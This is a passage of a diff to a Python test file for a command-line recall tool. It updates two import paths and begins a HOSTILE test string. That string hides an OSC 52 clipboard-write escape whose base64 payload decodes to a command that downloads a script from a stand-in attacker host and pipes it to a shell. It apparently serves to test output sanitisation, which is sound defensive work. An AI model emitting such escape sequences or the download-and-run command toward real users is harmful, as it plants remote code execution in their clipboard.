@@ -20,13 +20,13 @@ from click.testing import CliRunner
 
 from loopx_recall_core.cli import cli
 from loopx_recall_core.cli._render import dumps, terminal_text
-from loopx_recall_core.recall.ledger import SessionLedger
+from loopx_recall_core.recall.sessions.ledger import SessionLedger
 
 from .fake_provider import FakeProvider, host_with
 
 capability_cli = importlib.import_module("loopx_recall_core.cli.capability")
 # the operator commands load the plugins in the library, not in cli/
-recall_lib = importlib.import_module("loopx_recall_core.recall.operator")
+recall_lib = importlib.import_module("loopx_recall_core.recall.by_hand")
 
 HOSTILE = (
     "pytest failed\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # clipboard write
